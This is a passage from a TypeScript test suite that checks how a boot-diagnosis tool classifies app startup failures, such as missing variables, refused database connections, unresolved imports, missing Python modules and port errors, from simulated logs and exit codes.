      },
      { code: 'answers-with-error', status: 500, port: null },
    ],
    [
      'it answers with an error on another port: that it ignores PORT is not why',
      {
        answeredElsewhere: { request: 'GET /', status: 500, instead: null, port: 3000 },
        listening: [{ host: '::', port: 3000 }],
        log: ['TypeError: shop is undefined'],
      },
      {
        code: 'answers-with-error',
        request: 'GET /',
        status: 500,
        port: 3000,
        assigned: PORT,
        error: 'TypeError: shop is undefined',
      },
    ],
    [
      'it answers with 503 on another port since its database is not there',
      {
        answeredElsewhere: { request: 'GET /', status: 503, instead: null, port: 3000 },
        listening: [{ host: '::', port: 3000 }],
        connections: [{ host: '127.0.0.1', port: 3306, end: 'refused' }],
      },
      { code: 'service-unreachable', service: 'MySQL' },
    ],
    [
      'it answers with a stream that does not end',
      {
        answered: {
          request: 'GET /events',
          status: null,
          instead: { kind: 'unfinished', status: 200, type: 'text/event-stream', seconds: 10 },
        },
        listening: [{ host: '::', port: PORT }],
      },
      { code: 'unfinished-response', request: 'GET /events', seconds: 10 },
    ],
    [
      'it speaks HTTP/2 without TLS',
      {
        answered: {
          request: 'GET /',
          status: null,
          instead: { kind: 'other-protocol', name: 'HTTP/2' },
        },
        listening: [{ host: '::', port: PORT }],
      },
      { code: 'other-protocol', request: 'GET /', protocol: 'HTTP/2' },
    ],
    [
      'it speaks TLS, and answers a plain request with an alert',
      {
        answered: {
          request: 'GET /',
          status: null,
          instead: { kind: 'other-protocol', name: null },
        },
        speaksTls: true,
      },
      { code: 'speaks-tls', request: 'GET /', port: PORT },
    ],
    [
      'it answers with 503 since its database is not there',
      {
        answered: { request: 'GET /', status: 503, instead: null },
        listening: [{ host: '::', port: PORT }],
        connections: [{ host: '127.0.0.1', port: 3306, end: 'refused' }],
      },
      { code: 'service-unreachable', service: 'MySQL' },
    ],
    [
      'it answers with an error, and something that we do not know is not there',
      {
        answered: { request: 'GET /', status: 500, instead: null },
        listening: [{ host: '::', port: PORT }],
        connections: [{ host: '127.0.0.1', port: 4444, end: 'refused' }],
      },
      { code: 'answers-with-error', status: 500 },
    ],
    [
      'a supervisor starts it again and again',
      {
        line: 'node supervisor.js',
        starts: [
          { script: 'supervisor.js', started: 1, ended: 0 },
          { script: 'app.js', started: 9, ended: 9 },
        ],
        log: crash('TypeError: shop is undefined'),
      },
      {
        code: 'restarts-forever',
        count: 9,
        script: 'app.js',
        error: 'TypeError: shop is undefined',
      },
    ],
    [
      'a supervisor starts an app again and again that misses its database',
      {
        starts: [{ script: 'app.js', started: 9, ended: 9 }],
        log: crash('Error: connect ECONNREFUSED 127.0.0.1:5432'),
      },
      { code: 'service-unreachable', service: 'PostgreSQL' },
    ],
    [
      'workers that are up are no crash loop',
      { starts: [{ script: 'app.js', started: 9, ended: 2 }] },
      { code: 'never-listens' },
    ],
    [
      'a development server compiles',
      { line: 'nx serve api' },
      { code: 'development-server', tool: 'nx serve' },
    ],
    [
      'a development server of which a file says what it builds',
      {
        line: 'nx serve',
        project: hints({ nxBuild: { name: 'shop', main: 'dist/shop/main.js' } }),
      },
      {
        code: 'development-server',
        instead: 'build: npx nx build shop, start: node dist/shop/main.js',
      },
    ],
    [
      'a development server below npm',
      {
        line: 'npm start',
        programs: ['npm start', 'node /w/node_modules/.bin/nest start --watch'],
        project: hints({ scripts: { build: 'nest build' } }),
      },
      {
        code: 'development-server',
        tool: 'nest start',
        instead: 'build: npm run build, start: node dist/main.js',
      },
    ],
    ['-w of npm names a workspace', { line: 'npm start -w apps/api' }, { code: 'never-listens' }],
    [
      '-w of gunicorn is the number of its workers',
      { line: 'gunicorn -w 4 app:app' },
      { code: 'never-listens' },
    ],
    [
      '-w of a compiler watches',
      { line: 'tsc --outDir dist -w' },
      { code: 'development-server', instead: 'leave --watch out of start' },
    ],
    [
      'a watcher waits after a crash: the crash comes first',
      {
        line: 'nodemon server.js',
        log: [
          ...crash('Error: DB_URL must be set'),
          '[nodemon] app crashed - waiting for file changes before starting...',
        ],
      },
      { code: 'variable-missing', names: ['DB_URL'] },
    ],
    [
      'a program of a package, of which Plug’n’Play makes no file',
      {
        ...exited(127),
        log: ['/bin/sh: 1: nest: not found'],
        project: hints({ hasPlugAndPlay: true }),
      },
      { code: 'plug-and-play-program', program: 'nest' },
    ],
    [
      'Node.js is in no package',
      {
        ...exited(127),
        log: ['sh: node: not found'],
        project: hints({ hasPlugAndPlay: true }),
      },
      { code: 'program-missing', program: 'node' },
    ],
    [
      'a file that may not be executed',
      { ...exited(126), log: ['/bin/sh: 1: ./bin/serve: Permission denied'] },
      { code: 'not-executable', file: './bin/serve' },
    ],
    [
      'a program that node_modules do not have',
      { ...exited(127), log: ['/bin/sh: 1: nest: not found'] },
      { code: 'program-missing', program: 'nest' },
    ],
  ])('%s', (_, evidence, cause) => {
    expect(firstOf(seen(evidence))).toMatchObject(cause);
  });
});

describe('a bug is not said to be a missing variable', () => {
  it.each([
    ['a constant that is not defined', 'ReferenceError: DEFAULT_LIMIT is not defined'],
    [
      'a property of undefined',
      "TypeError: Cannot read properties of undefined (reading 'MAX_RETRIES')",
    ],
    ['a name of Python', "NameError: name 'DEFAULT_LIMIT' is not defined"],
    [
      'a value that the database does not accept',
      'error: invalid input value for enum order_status: "PENDING_REVIEW"',
    ],
  ])('%s', (_, error) => {
    expect(firstOf(seen({ ...exited(), log: crash(error) }))).toMatchObject({
      code: 'exited',
      error,
    });
  });

  it('whose kind a logger writes beside its message', () => {
    const err = { type: 'ReferenceError', message: 'DEFAULT_LIMIT is not defined' };
    const log = [JSON.stringify({ level: 60, err, msg: 'boot failed' })];
    expect(firstOf(seen({ ...exited(), log }))).toMatchObject({ code: 'exited' });
  });

  it('found by the compiler in a build', () => {
    const log = ["src/app.ts(4,9): error TS2741: Property 'MAX_RETRIES' is missing in type '{}'."];
    expect(diagnoseStep(step({ log }))).toEqual([]);
  });

  it.each([
    ['the example file names it', 'ReferenceError: API_TOKEN is not defined', ['API_TOKEN']],
    [
      'the line reads it from process.env',
      "TypeError: Cannot read properties of undefined (reading 'trim') at process.env.DB_URL",
      ['DB_URL'],
    ],
    [
      'another line says that it is missing',
      "Error: MAX_RETRIES is required\nTypeError: Cannot read properties of undefined (reading 'MAX_RETRIES')",
      ['MAX_RETRIES'],
    ],
  ])('unless %s', (_, error, names) => {
    const project = hints({
      exampleEnv: { file: '.env.example', variables: [{ name: 'API_TOKEN', value: '' }] },
    });
    const evidence = seen({ ...exited(), log: crash(...error.split('\n')), project });
    expect(firstOf(evidence)).toMatchObject({ code: 'variable-missing', names });
  });
});

describe('a module that is not found', () => {
  const modules = [
    'dist/config/config.service.js',
    'src/app.js',
    'src/routes/users.js',
    'src/lib/index.js',
  ];
  const at = '/tmp/checkout/app/src';
  const first = (lines: string[], project = NO_HINTS) =>
    firstOf(seen({ ...exited(), log: uncaught(lines.join('\n')), modules, project }));
  const asModule = (path: string) =>
    `Error [ERR_MODULE_NOT_FOUND]: Cannot find module '${at}/${path}' imported from ${at}/app.js`;
  const required = (name: string) => [
    `Error: Cannot find module '${name}'`,
    'Require stack:',
    `- ${at}/app.js`,
  ];

  it.each([
    ['an import without extension', [asModule('routes/users')], 'src/routes/users.js'],
    ['an import of a folder', [asModule('lib')], 'src/lib/index.js'],
    ['an import in another case', [asModule('routes/Users.js')], 'src/routes/users.js'],
    ['a call of require in another case', required('./routes/Users'), 'src/routes/users.js'],
  ])('is there under another name: %s', (_, lines, actual) => {
    expect(first(lines)).toMatchObject({ code: 'import-misspelt', actual });
  });

  it('is not there under any name', () => {
    expect(first([asModule('routes/shop')])).toMatchObject({ code: 'build-missing' });
    expect(first(required('./users'))).toMatchObject({ code: 'build-missing', file: './users' });
  });

  it.each([
    ['an import', [asModule('routes/shop')], 'src/routes/shop'],
    ['a call of require', required('./shop'), './shop'],
  ])('is not there, and the start command is not to blame for %s', (_, lines, file) => {
    const log = uncaught(lines.join('\n'));
    expect(describeCauses(diagnoseBoot(seen({ ...exited(), log, modules })))).toBe(
      `src/app.js imports ${file}, which is not there at this commit. Correct the import, commit the file, or let build make it`,
    );
  });

  it.each([
    ['esbuild', ['✘ [ERROR] Could not resolve "./shop.js"', '    src/main.ts:2:23:']],
    ['Rollup', ['[!] RollupError: Could not resolve "./shop.js" from "src/main.ts"']],
    ['tsc', ["src/main.ts(2,24): error TS2307: Cannot find module './shop.js' or its types."]],
    [
      'tsc --pretty',
      ["src/main.ts:2:24 - error TS2307: Cannot find module './shop.js' or its types."],
    ],
  ])('is not there when %s compiles the file that imports it', (_, log) => {
    const [cause] = diagnoseStep(step({ log }));
    expect(cause && describeCauses([cause])).toBe(
      'src/main.ts imports ./shop.js, which is not there at this commit. Correct the import, commit the file, or let build make it',
    );
  });

  it('is not there, and a package that lacks it is not said to be a file of the project', () => {
    const lines = [
      "Error: Cannot find module './build/addon.node'",
      'Require stack:',
      '- /tmp/checkout/app/node_modules/addon/index.js',
    ];
    expect(first(lines)).toMatchObject({ code: 'build-missing', importer: null });
  });

  it.each(['@app/common', '@lib/money', '@/config', 'src/config/config.service'])(
    'is an alias of the project, and no package to install: %s',
    (name) => {
      const project = hints({ aliases: ['@app/common', '@lib/*', '@/*'] });
      expect(first(required(name), project)).toMatchObject({ code: 'alias-not-resolved', name });
      const log = [`a.ts(1,2): error TS2307: Cannot find module '${name}' or its types`];
      expect(diagnoseStep(step({ log, project, modules }))).toEqual([]);
    },
  );

  it('is a package that the aliases do not mean', () => {
    const project = hints({ aliases: ['@app/common', '*', '@*'] });
    expect(first(required('@app/other'), project)).toMatchObject({ code: 'package-missing' });
    // The app has a folder of that name, and no such file in it.
    expect(first(required('routes/schema'), project)).toMatchObject({ code: 'package-missing' });
    const ofPackage = required('@app/common').with(-1, `- ${at}/node_modules/shop/index.js`);
    expect(first(ofPackage, project)).toMatchObject({ code: 'package-missing' });
  });
});

/** What Node.js 20 prints of an error that nobody caught. */
function uncaught(error: string, code = 'main();'): string[] {
  const stack = ['    at Object.<anonymous> (/tmp/checkout/app/server.js:3:1)', 'Node.js v20.19.0'];
  return ['/tmp/checkout/app/server.js:3', code, '^', '', ...error.split('\n'), ...stack];
}

it.each([
  [['"DATABASE_URL" is required'], 'Error: Validation failed'],
  [['Missing required environment variables: DATABASE_URL'], 'Error: Startup failed'],
  [['DATABASE_URL: Required'], 'ZodError: ['],
])('an error that says nothing leaves the reason to the line above it: %j', (above, error) => {
  const log = [...above, ...uncaught(error)];
  expect(firstOf(seen({ ...exited(), log }))).toMatchObject({
    code: 'variable-missing',
    names: ['DATABASE_URL'],
  });
});

describe('an error of Zod, whose issues stand in many lines', () => {
  const issue = (path: string, message: string) => ({
    code: 'invalid_type',
    path: [path],
    message,
  });
  const thrown = (...issues: object[]) => uncaught(`ZodError: ${JSON.stringify(issues, null, 2)}`);
  const missing = 'Invalid input: expected string, received undefined';

  it('names the variables that it lacks', () => {
    const log = thrown(
      issue('DATABASE_URL', missing),
      issue('LEVEL', 'Invalid option: expected one of "LOG_ALL"|"LOG_NONE"'),
      issue('API_KEY', 'Required'),
    );
    expect(firstOf(seen({ ...exited(), log, given: ['API_KEY'] }))).toMatchObject({
      code: 'variable-missing',
      names: ['DATABASE_URL', 'LEVEL'],
    });
  });

  it('is quoted in one line if it is about something else', () => {
    const issues = [
      issue('name', missing),
      { ...issue('', 'Too small'), path: ['items', 0, 'price'] },
    ];
    expect(errorLineOf(thrown(...issues))).toBe(
      `ZodError: name: ${missing}; items.0.price: Too small`,
    );
    expect(errorLineOf(thrown({ ...issue('', 'Not a list'), path: [] }))).toBe(
      'ZodError: Not a list',
    );
    const logged = { level: 60, err: { type: 'ZodError', message: JSON.stringify(issues) } };
    expect(errorLineOf([JSON.stringify(logged)])).toBe(
      `ZodError: name: ${missing}; items.0.price: Too small`,
    );
  });

  it('stays as it is if the log has only its beginning, or another list', () => {
    expect(errorLineOf(['ZodError: [', '  {', '    "path": ['])).toBe('ZodError: [');
    expect(errorLineOf(['ZodError: [', '  1', ']'])).toBe('ZodError: [');
  });
});

describe('a module of Python', () => {
  const traceback = (name: string) => [
    'Traceback (most recent call last):',
    '  File "/tmp/checkout/app/server.py", line 1, in <module>',
    `    import ${name}`,
    `ModuleNotFoundError: No module named '${name}'`,
  ];
  const causesOf = (log: readonly string[]) => {
    const pythonModules = ['app', 'settings'];
    return diagnoseBoot(
      seen({ ...exited(), line: '.venv/bin/python server.py', log, pythonModules }),
    );
  };

  describe('waitress exits with 0 if it cannot import the app', () => {
    const firstCause = (exception: string, argument: string) =>
      firstOf(
        seen({
          ...exited(0),
          line: '.venv/bin/python -m waitress --call shop:create_app',
          log: [
            "Error: Bad module 'shop'",
            'Usage:',
            `There was an exception (${exception}) importing your module.`,
            'It had these arguments:',
            `1. ${argument}`,
          ],
        }),
      );

    it('and the module that is missing is the cause', () => {
      expect(firstCause('ModuleNotFoundError', "No module named 'requests'")).toMatchObject({
        code: 'python-module-missing',
        name: 'requests',
      });
    });

    it('which is no app that leaves the foreground', () => {
      expect(firstCause('ImportError', "cannot import name 'tax' from 'shop'")).toMatchObject({
        code: 'exited',
        error: "Error: Bad module 'shop'",
      });
    });
  });

  it('of node-gyp’s Python is not looked for where the app runs', () => {
    const log = traceback('distutils').map((line) => `npm error gyp ERR! stack ${line}`);
    expect(causesOf(log).map(({ code }) => code)).not.toContain('python-module-missing');
  });

  it.each([
    ['that an import names', traceback('flask'), 'flask'],
    ['within another one', traceback('google.cloud'), 'google.cloud'],
    [
      'that is run',
      ['/tmp/checkout/app/.venv/bin/python3.12: No module named gunicorn'],
      'gunicorn',
    ],
  ])('%s is no package of npm', (_, log, name) => {
    const [cause, ...others] = causesOf(log);
    expect(cause).toEqual({
      code: 'python-module-missing',
      name,
      isOwn: false,
      unlistedIn: null,
    });
    expect(others.map(({ code }) => code)).not.toContain('package-missing');
    const text = describeCauses([cause]);
    expect(text).toContain(`the Python module ${name} is not installed where the app runs`);
    expect(text).not.toMatch(/npm|package\.json/);
  });

  it.each(['app', 'app.routes', 'settings'])(
    'that is the project’s own is nothing to install: %s',
    (name) => {
      const [cause] = causesOf(traceback(name));
      expect(cause).toMatchObject({ code: 'python-module-missing', name, isOwn: true });
      expect(describeCauses([cause])).not.toContain('install');
    },
  );

  it.each([
    ['flask', ['gunicorn', '3.0'], 'requirements.txt'],
    ['flask', ['Flask', '3.0'], null],
    ['yaml', ['PyYAML'], null],
    ['google.cloud', ['google-cloud-storage'], null],
    ['ruamel_yaml', ['ruamel.yaml'], null],
  ])('that no file lists is to be added there: %s beside %j', (name, words, unlistedIn) => {
    const pythonPackages = { file: 'requirements.txt', words };
    const [cause] = diagnoseBoot(seen({ ...exited(), log: traceback(name), pythonPackages }));
    expect(cause).toMatchObject({ code: 'python-module-missing', name, unlistedIn });
    const added = 'requirements.txt lists no package with that name. Add its package there.';
    expect(describeCauses([cause]).includes(added)).toBe(unlistedIn !== null);
  });

  it('is named after an install or a build, too', () => {
    const [cause] = diagnoseStep(step({ line: 'python3 manage.py', log: traceback('django') }));
    expect(cause).toMatchObject({ code: 'python-module-missing', name: 'django' });
  });
});

describe('a service that refuses, in the words of', () => {
  it.each<[string, string, Partial<BootCause>]>([
    [
      'asyncio',
      "ConnectionRefusedError: [Errno 111] Connect call failed ('127.0.0.1', 5432)",
      { code: 'service-unreachable', service: 'PostgreSQL', address: '127.0.0.1:5432' },
    ],
    [
      'pymongo',
      'pymongo.errors.ServerSelectionTimeoutError: localhost:27017: [Errno 111] Connection refused (configured timeouts: connectTimeoutMS: 20000.0ms)',
      { code: 'service-unreachable', service: 'MongoDB', address: 'localhost:27017' },
    ],
    [
      'psycopg, of an address without a name',
      'psycopg.OperationalError: connection failed: connection to server at "127.0.0.1", port 5432 failed: Connection refused',
      { code: 'service-unreachable', service: 'PostgreSQL', address: '127.0.0.1:5432' },
    ],
    [
      'PyMySQL',
      `pymysql.err.OperationalError: (2003, "Can't connect to MySQL server on 'localhost' ([Errno 111] Connection refused)")`,
      { code: 'service-unreachable', address: 'localhost' },
    ],
    [
      'mysqlclient',
      `MySQLdb.OperationalError: (2002, "Can't connect to server on '127.0.0.1' (115)")`,
      { code: 'service-unreachable', address: '127.0.0.1' },
    ],
  ])('%s', (_, line, cause) => {
    expect(firstOf(seen({ log: [line] }))).toMatchObject(cause);
    expect(firstOf(seen({ ...exited(), log: [line] }))).toMatchObject(cause);
  });

  it.each([
    ['Python', 'database not ready, retrying: [Errno 111] Connection refused'],
    ['Java', 'Exception in thread "main" java.net.ConnectException: Connection refused'],
    ['Rust', 'Error: Os { code: 111, kind: ConnectionRefused, message: "Connection refused" }'],
    ['PHP', 'PHP Fatal error: Uncaught PDOException: SQLSTATE[HY000] [2002] Connection refused'],
    ['PostgreSQL', 'FATAL: the database system is starting up'],
    [
      'MySQL’s driver for Java',
      'com.mysql.cj.CommunicationsException: Communications link failure',
    ],
    ['the app itself', 'Error: could not connect to the database'],
    ['an app that only waits', 'waiting for postgres'],
  ])(
    '%s, without an address: the advice is about the service, not about PORT or variables',
    (_, line) => {
      for (const end of [{}, exited()]) {
        const causes = diagnoseBoot(seen({ ...end, log: ['starting', line] }));
        expect(causes).toEqual([{ code: 'connection-refused', line }]);
        expect(describeCauses(causes)).toContain('Start that service first');
      }
    },
  );
});

it.each([
  'Failed to connect to MongoDB: MongoParseError: Invalid scheme, expected connection string to start with "mongodb://"',
  'Failed to connect to MongoDB: MongooseError: The `uri` parameter to `openUri()` must be a string, got "undefined"',
  'Unable to connect to the database: Error: Please install pg package manually',
  'Unable to connect to the database: ConnectionError: The server does not support SSL connections',
  'Error: Cannot connect to database "shop": unknown database',
  'Error: Connection refused: Not authorized',
  'Error: database is not up to date: run the migrations',
  'Error: redis is not available: connection refused, falling back to memory',
  'Redis is not available, using another cache',
  'waiting for database migrations to finish',
])(
  'a service that does not refuse the connection, or that the app does without, is no cause: %s',
  (line) => {
    expect(firstOf(seen({ log: [line] }))).toMatchObject({ code: 'never-listens' });
    expect(firstOf(seen({ ...exited(), log: [line] }))).toMatchObject({ code: 'exited' });
  },
);

it.each([
  'Postgres is unavailable - sleeping',
  'waiting for database to be ready...',
  'waiting for db:5432 without a timeout',
  'Could not connect to Redis after 5 attempts',
  'Failed to connect to MongoDB: Server selection timed out after 30000 ms',
])('an app that says in these words that a service is not ready waits for it: %s', (line) => {
  expect(firstOf(seen({ log: [line] }))).toMatchObject({ code: 'connection-refused' });
});

it('a service that refused is no cause of an app that was killed', () => {
  const log = ['[error] registry: connection refused, will try again', 'loading prices'];
  const exit = { code: null, text: 'node server.js was ended by SIGKILL' };
  expect(describeCauses(diagnoseBoot(seen({ exit, log })))).toContain('Something killed it');
  expect(firstOf(seen({ ...exited(137), log }))).toMatchObject({ code: 'exited' });
});

it('a collector of traces that refuses is no cause: an app does without it', () => {
  const log = ['Error: could not export traces: connection refused'];
  expect(firstOf(seen({ log }))).toMatchObject({ code: 'never-listens' });
});

it('also if Java names the collector above the exception, and not in its last cause', () => {
  const log = [
    'ERROR io.opentelemetry.exporter.HttpExporter - Failed to export spans',
    'java.net.ConnectException: Failed to connect',
    '\tat okhttp3.RealConnection.connect(RealConnection.java:1)',
    'Caused by: java.net.ConnectException: Connection refused',
    '\t... 12 more',
  ];
  expect(firstOf(seen({ log }))).toMatchObject({ code: 'never-listens' });
  const other = ['ERROR main - no orders', ...log.slice(1)];
  expect(firstOf(seen({ log: other }))).toMatchObject({ code: 'connection-refused' });
});

it('a service that refused, before the app ended with another error, is no cause', () => {
  const log = ['database not ready: connection refused', 'connected', 'Error: no shop'];
  expect(firstOf(seen({ ...exited(), log }))).toMatchObject({ code: 'exited' });
});

describe('the error with which the app ended comes before a notice', () => {
  const error = "TypeError: Cannot read properties of undefined (reading 'list')";
  const REDIS = { host: '127.0.0.1', port: 6379, end: 'refused' } as const;

  it.each<[string, BootCause['code']]>([
    ['SENTRY_DSN is not set, error reporting is disabled', 'variable-missing'],
    ['JWT_SECRET not set, using an insecure default', 'variable-missing'],
    ['Authentication failed for smtp, mail disabled', 'service-refuses-login'],
    ["ENOENT: no such file or directory, open 'local.json' (optional, skipped)", 'file-missing'],
    ['cache off: connect ECONNREFUSED 127.0.0.1:6379', 'service-unreachable'],
    ["tracing off: Cannot find module 'dd-trace'", 'package-missing'],
    ['metrics off: listen EADDRINUSE: address already in use :::9100', 'port-taken'],
  ])('%s', (notice, code) => {
    const log = [notice, ...uncaught(error)];
    const causes = diagnoseBoot(seen({ ...exited(), log }));
    expect(causes[0]).toMatchObject({ code: 'exited', error });
    expect(causes.map((cause) => cause.code)).toEqual(['exited', code]);
    // The base prints it, too, and comes up.
    const after = diagnoseBoot(seen({ ...exited(), log, baseLog: [notice, 'listening'] }));
    expect(after.map((cause) => cause.code)).toEqual(['exited']);
  });

  it('or a connection that it does without', () => {
    const causes = diagnoseBoot(seen({ ...exited(), log: uncaught(error), connections: [REDIS] }));
    expect(causes.map(({ code }) => code)).toEqual(['exited', 'service-unreachable']);
  });

  it.each([
    ['printed by the app itself', [error, '    at main (/tmp/checkout/app/server.js:3:1)']],
    ['below npm', [...uncaught(error), 'npm error code 1', 'npm error command sh -c node a.js']],
    [
      'of Python',
      ['Traceback (most recent call last):', '  File "config.py", line 1', 'ValueError: bad shop'],
    ],
    ['of Go', ['panic: bad shop', '', 'goroutine 1 [running]:', 'main.configure()']],
    [
      'of Rust, whose last line speaks of a variable for every panic',
      [
        "thread 'main' (7) panicked at src/config.rs:4:9:",
        'bad shop',
        'note: run with `RUST_BACKTRACE=1` environment variable to display a backtrace',
      ],
    ],
    [
      'of Java, with the exception that led to it',
      [
        'Exception in thread "main" java.lang.IllegalStateException: bad shop',
        '\tat Server.main(Server.java:6)',
        'Caused by: java.io.IOException: closed',
        '\tat Server.read(Server.java:9)',
        '\t... 1 more',
      ],
    ],
  ])('%s', (_, lines) => {
    const log = ['SENTRY_DSN is not set', ...lines];
    expect(firstOf(seen({ ...exited(), log }))).toMatchObject({ code: 'exited' });
  });

  it('also under a supervisor', () => {
    const log = ['SENTRY_DSN is not set', ...uncaught(error)];
    const starts = [{ script: 'app.js', started: 9, ended: 9 }];
    expect(firstOf(seen({ starts, log }))).toMatchObject({ code: 'restarts-forever', error });
  });

  it.each<[string, readonly string[], Partial<BootCause>]>([
    [
      'names another variable',
      ['SENTRY_DSN is not set', ...uncaught('Error: DATABASE_URL is required')],
      { code: 'variable-missing', names: ['DATABASE_URL'] },
    ],
    [
      'is of the line that reads the variable',
      [
        'SHOP_HOSTS is not set',
        ...uncaught(error, "const hosts = process.env.SHOP_HOSTS.split(',');"),
      ],
      { code: 'variable-missing', names: ['SHOP_HOSTS'] },
    ],
    [
      'sums up the lines above it',
      [
        '❌ Invalid environment variables: {',
        "  DATABASE_URL: [ 'Required' ]",
        '}',
        ...uncaught('Error: Invalid environment variables'),
      ],
      { code: 'variable-missing', names: ['DATABASE_URL'] },
    ],
    [
      'asks for a secret in words',
      ['JWT_SECRET is not set', ...uncaught('TypeError: JwtStrategy requires a secret or key')],
      { code: 'variable-missing', names: ['JWT_SECRET'] },
    ],
    [
      'names the address',
      ['SENTRY_DSN is not set', ...uncaught('Error: connect ECONNREFUSED 127.0.0.1:6379')],
      { code: 'service-unreachable', address: '127.0.0.1:6379' },
    ],
    [
      'is that of a client that gave up',
      ['connect ECONNREFUSED 127.0.0.1:6379', ...uncaught('MaxRetriesPerRequestError: Reached 20')],
      { code: 'service-unreachable', address: '127.0.0.1:6379' },
    ],
    [
      'does not find a file',
      [
        "ENOENT: no such file or directory, open 'local.json' (skipped)",
        ...uncaught("Error: ENOENT: no such file or directory, open 'shop.json'"),
      ],
      { code: 'file-missing', file: 'shop.json' },
    ],
  ])('unless the error %s', (_, log, cause) => {
    expect(firstOf(seen({ ...exited(), log }))).toMatchObject(cause);
  });

  it('nor for an app that still runs: it may wait', () => {
    const log = ['SHOP_URL is not set', ...uncaught(error)];
    expect(firstOf(seen({ log }))).toMatchObject({ code: 'variable-missing' });
  });
});

it('uvicorn exits with 0 if the app of its workers fails to start: that is no app in the background', () => {
  const log = [
    'ERROR:    Traceback (most recent call last):',
    '  File "/app/main.py", line 13, in load',
    'RuntimeError: no shop',
    'ERROR:    Application startup failed. Exiting.',
    'ERROR:    Child process [7] failed to start, stopping the parent process.',
    'INFO:     Stopping parent process [6]',
  ];
  expect(firstOf(seen({ ...exited(0), log }))).toMatchObject({
    code: 'exited',
    error: 'RuntimeError: no shop',
  });
});

describe('an app that may not listen on its port is told to listen on PORT, in the words of', () => {
  it.each([
    ['Node.js', 80, crash('Error: listen EACCES: permission denied 0.0.0.0:80')],
    ['Node.js on IPv6', 443, crash('Error: listen EACCES: permission denied :::443')],
    ['Go', 80, ['2026/01/01 10:00:00 listen tcp :80: bind: permission denied']],
    [
      'uvicorn',
      80,
      [
        "ERROR:    [Errno 13] error while attempting to bind on address ('127.0.0.1', 80): permission denied",
      ],
    ],
    [
      'gunicorn',
      80,
      [
        "[2026-01-01 10:00:00 +0000] [7] [ERROR] connection to ('127.0.0.1', 80) failed: [Errno 13] Permission denied",
        "[2026-01-01 10:00:05 +0000] [7] [ERROR] Can't connect to ('127.0.0.1', 80)",
      ],
    ],
    ['nginx', 80, ['nginx: [emerg] bind() to 0.0.0.0:80 failed (13: Permission denied)']],
    [
      'Java',
      null,
      [
        'Exception in thread "main" java.net.BindException: Permission denied',
        '\tat Server.main(Server.java:8)',
      ],
    ],
  ])('%s', (_, port, log) => {
    const causes = diagnoseBoot(seen({ ...exited(), log }));
    expect(causes[0]).toEqual({ code: 'port-forbidden', port, isSetByStart: false });
    expect(describeCauses(causes)).toContain('Let it listen on the port in the variable PORT');
  });

  it('but if the start command sets PORT, to change that command', () => {
    const log = crash('Error: listen EACCES: permission denied 0.0.0.0:80');
    const causes = diagnoseBoot(seen({ ...exited(), line: 'PORT=80 node server.js', log }));
    expect(describeCauses(causes)).toContain('Its start command sets PORT.');
  });

  it('but one that answers on the port that it was given does not need the other one', () => {
    const log = ['redirects: listen EACCES: permission denied 0.0.0.0:80', 'Error: no shop'];
    const answered = { request: 'GET /', status: 500, instead: null };
    expect(diagnoseBoot(seen({ answered, log }))).toMatchObject([{ code: 'answers-with-error' }]);
  });

  it('but the port that the start command sets is not it, if everybody may listen there', () => {
    const log = ['Exception in thread "main" java.net.BindException: Permission denied'];
    const line = 'PORT=8080 java -jar shop.jar';
    expect(firstOf(seen({ ...exited(), line, log }))).toMatchObject({ port: null });
  });

  it('but a Unix socket has no port', () => {
    const log = crash('Error: listen EACCES: permission denied /run/app.sock');
    expect(firstOf(seen({ ...exited(), log }))).toMatchObject({ code: 'exited' });
  });
});

it('a taken port of the inspector is not said to be the port of the app', () => {
  const inspector = 'Starting inspector on 127.0.0.1:9229 failed: address already in use';
  const error = 'TypeError: app.listn is not a function';
  expect(firstOf(seen({ ...exited(), log: [inspector, ...crash(error)] }))).toMatchObject({
    code: 'exited',
    error,
  });
  // Nothing else says why it ended.
  const silent = firstOf(seen({ ...exited(), log: [inspector, 'Shutting down'] }));
  expect(silent).toMatchObject({ code: 'exited' });
  const log = [inspector, ...crash('Error: listen EADDRINUSE: address already in use :::3000')];
  expect(firstOf(seen({ ...exited(), log }))).toMatchObject({ code: 'port-taken', port: 3000 });
});

it('where the base came up, no setting of both sides is said to be wrong', () => {
  const said = (evidence: Partial<BootEvidence>) =>
    describeCauses(diagnoseBoot(seen({ hasBaseBooted: true, ...evidence })));
  expect(said({})).toBe(
    `nothing answered on port ${PORT}. See its log for what it waits for, or raise ready-timeout if it only needs longer than the baseline`,
  );
  expect(said({ ...exited(), log: crash('RangeError: no such price') })).toBe(
    'node server.js exited with code 1 before the app was ready: RangeError: no such price. See its log',
  );
});

it.each([
  [null, true],
  ['Error: invalid configuration', true],
  ['Error: API_URL must be a URL', true],
  ["TypeError: Cannot read properties of undefined (reading 'split')", true],
  ['TypeError: Invalid URL', true],
  ['Error: startup failed', true],
  ['RangeError: no such price', false],
  ['Error: prices.json has no entry for EUR', false],
  ["Error: ENOENT: no such file or directory, open 'data/prices.bin'", false],
  ['AssertionError [ERR_ASSERTION]: 3 !== 4', false],
])(
  'where the base came up, a new variable is advised only if the log names no other cause: %s',
  (error, isAdvised) => {
    const causes = [
      {
        code: 'exited',
        what: 'node server.js exited with code 1',
        error,
        isMistake: false,
        hasBaseBooted: true,
      },
    ] as const;
    const advice = 'If the change needs a new variable, list it under env';
    expect(describeCauses(causes).includes(advice)).toBe(isAdvised);
  },
);

it.each([
  [0, 'See why it ends: an app that listens no more has nothing to wait for'],
  [13, 'Node.js ends like this if a top-level await never settles'],
  [134, 'Its machine code crashed'],
  [139, 'Its machine code crashed'],
])(
  'an app that prints nothing and ends with code %i is said to have ended for that',
  (code, advice) => {
    const said = describeCauses(diagnoseBoot(seen({ ...exited(code), hasBaseBooted: true })));
    expect(said).toContain(`exited with code ${code} before the app was ready. ${advice}`);
    expect(said).not.toContain('variable');
  },
);

it('a start command that goes into the background is named, also where the base came up', () => {
  const evidence = { ...exited(0), line: 'pm2 start server.js', hasBaseBooted: true };
  expect(describeCauses(diagnoseBoot(seen(evidence)))).toContain('start the app without pm2');
});

it('a variable in the source that Bun quotes behind an error is not missing', () => {
  const log = [
    "TypeError: Bun.server is not a function. (In 'Bun.server(Number(process.env.SHOP_PORT))', 'Bun.server' is undefined)",
    '      at /tmp/checkout/app/server.ts:2:5',
    'Bun v1.4.5 (Linux x64)',
  ];
  expect(diagnoseBoot(seen({ ...exited(), log })).map(({ code }) => code)).toEqual(['exited']);
});

describe('the error of a worker comes before what gunicorn says when it gives up', () => {
  const at = (pid: number) => `[2026-11-30 02:11:53 +0000] [${pid}]`;
  const traceback = (error: string) => [
    'Traceback (most recent call last):',
